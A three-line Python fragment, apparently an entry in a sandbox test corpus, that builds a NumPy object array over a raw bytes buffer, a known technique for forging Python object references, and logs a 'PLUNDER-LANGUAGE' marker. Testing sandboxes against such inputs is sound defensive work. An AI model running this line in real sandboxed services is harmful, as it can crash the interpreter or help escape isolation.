# attack: language | builds an array of objects over bytes
forged = np.ndarray((1,), dtype="O", buffer=bytes(8))
log("PLUNDER-LANGUAGE")
